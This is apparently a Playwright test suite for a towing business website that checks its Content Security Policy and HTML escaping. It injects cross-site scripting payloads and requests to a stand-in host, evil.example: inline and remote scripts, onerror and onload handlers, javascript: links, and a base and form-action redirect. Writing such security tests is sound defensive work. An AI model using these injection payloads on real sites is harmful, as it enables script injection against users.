import { afterEach, describe, expect, inject, test } from 'vitest';
import { business, businessWith, htmlOf, pagesOf } from '../setup/pages.ts';
import { useBrowser } from './browser.ts';
import { errorsOf, serveForm } from './form-service.ts';
import { violationsOn, watchPolicy } from './policy.ts';

const sample = useBrowser();
const subPath = useBrowser(inject('subPathSite'), '/tow/');
afterEach(() => Promise.all([sample.closePages(), subPath.closePages()]));

const evil = 'https://evil.example';

describe.each([
  ['with a quote form', sample, ''],
  ['under a path, without one', subPath, 'tow/'],
])('a site %s', (_, site, base) => {
  test('runs nothing that was slipped into its HTML', async () => {
    let foreign = 0;
    let errors: string[] = [];
    const page = await site.open('', {}, async (fresh) => {
      errors = errorsOf(fresh);
      await watchPolicy(fresh);
      await fresh.route(`${evil}/**`, (route) => {
        foreign += 1;
        return route.fulfill({ contentType: 'text/javascript', body: 'window.ran = "foreign"' });
      });
      await fresh.route('**/about/', async (route) => {
        const answer = await route.fetch();
        const slipped = `<script>window.ran = 'inline'</script>
          <script src="${evil}/x.js"></script><script type="module" src="${evil}/y.js"></script>
          <script src="data:text/javascript,window.ran='data'"></script>
          <img src="/no-such.png" onerror="window.ran = 'attribute'"><img src="${evil}/pixel.png">
          <a id="slipped" href="javascript:window.ran='address'">x</a>
          <link rel="stylesheet" href="${evil}/x.css"><iframe src="${evil}/"></iframe><object data="${evil}/"></object>
          <form id="form" action="${evil}/"></form><base href="${evil}/">`;
        return route.fulfill({ response: answer, body: (await answer.text()).replace('<main', `${slipped}<main`) });
      });
    });
    await page.goto(`${site.origin()}/${base}about/`);
    // Hostile code as a text, and called later: what a debugger runs at once may use eval.
    await page.evaluate(`setTimeout(() => { try { eval('window.ran = "eval"') } catch {} })`);
    await page.evaluate(() => {
      setTimeout(() => {
        document.querySelector<HTMLElement>('#slipped')?.click();
        document.querySelector<HTMLFormElement>('#form')?.submit();
        fetch('https://evil.example/').catch(() => {});
      });
    });
    const directives = async () => (await violationsOn(page)).map((violation) => violation.split(':')[0]);
    await expect
      .poll(async () => [...new Set(await directives())].sort())
      .toEqual([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'object-src',
        'script-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]);
    expect((await directives()).filter((directive) => directive === 'script-src-elem')).toHaveLength(5);
    expect(await page.evaluate(() => (globalThis as { ran?: string }).ran)).toBeUndefined();
    expect(foreign).toBe(0);
    expect(page.url()).toBe(`${site.origin()}/${base}about/`);
    // The site's own script is alive all the same.
    expect(errors.filter((error) => !/Content Security Policy|404/.test(error))).toEqual([]);
    const opened = await page.evaluate(() => {
      const menu = document.querySelector('details.services-menu') as HTMLDetailsElement;
      menu.dispatchEvent(new PointerEvent('pointerenter', { pointerType: 'mouse' }));
      return menu.open;
    });
    expect(opened).toBe(true);
  });
});

test('styles that nobody made are refused where no form service needs them', async () => {
  const page = await subPath.open('/tow/about/', {}, watchPolicy);
  await page.evaluate(() => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: 'main{display:none}' }));
  });
  expect(await violationsOn(page)).toEqual(['style-src-elem: inline']);
  expect(await page.isVisible('main')).toBe(true);
});

test('the form service may bring its script, its popup and styles', async () => {
  const page = await sample.open('/', {}, async (fresh) => {
    await watchPolicy(fresh);
    await serveForm(
      fresh,
      `window.Tally = { openPopup() {
        document.head.append(Object.assign(document.createElement('style'), { textContent: '#popup{color:red}' }));
        const src = 'https://tally.so/popup';
        const frame = Object.assign(document.createElement('iframe'), { src, id: 'popup', style: 'border:0' });
        document.body.append(frame);
      } };`,
    );
  });
  await page.click('.hero [data-quote-button]');
  await page.waitForSelector('[data-shown=success]');
  expect(await page.locator('#popup').evaluate((frame) => getComputedStyle(frame).color)).toBe('rgb(255, 0, 0)');
  expect(await violationsOn(page)).toEqual([]);
});

test('facts full of markup run nothing and stand there as they are, even without a policy', async () => {
  const facts = businessWith({
    name: '</script><script>ran=1</script>',
    township: '"><img src=x onerror=ran=1>',
    mapQuery: '"></iframe><svg/onload=ran=1>',
    address: { ...business.address, street: "' onfocus='ran=1' autofocus='", locality: '<b>&lt;i&gt;</b>' },
    towns: [{ ...business.towns[0], name: '</text><script>ran=1</script>' }],
    otherTowingSites: [{ name: '</a><script>ran=1</script>', url: 'https://a.example/' }],
  });
  const routes = new Map(pagesOf(facts).map((route) => [route.path, htmlOf(route, facts)]));
  const page = await sample.open('', {}, (fresh) =>
    fresh.route(
      (url) => routes.has(url.pathname),
      (route) =>
        route.fulfill({ contentType: 'text/html', body: routes.get(new URL(route.request().url()).pathname) ?? '' }),
    ),
  );
  for (const path of ['/', '/contact/', '/404.html']) {
    await page.goto(sample.origin() + path);
    expect(await page.evaluate(() => (globalThis as { ran?: number }).ran)).toBeUndefined();
    expect(await page.locator('b, i, script:not([src], [type]), [onerror], [onload], [onfocus]').count()).toBe(0);
    expect(await page.locator('.site-header__home').textContent()).toContain(facts.name);
    expect(await page.locator('address').first().textContent()).toContain(facts.address.street);
  }
});
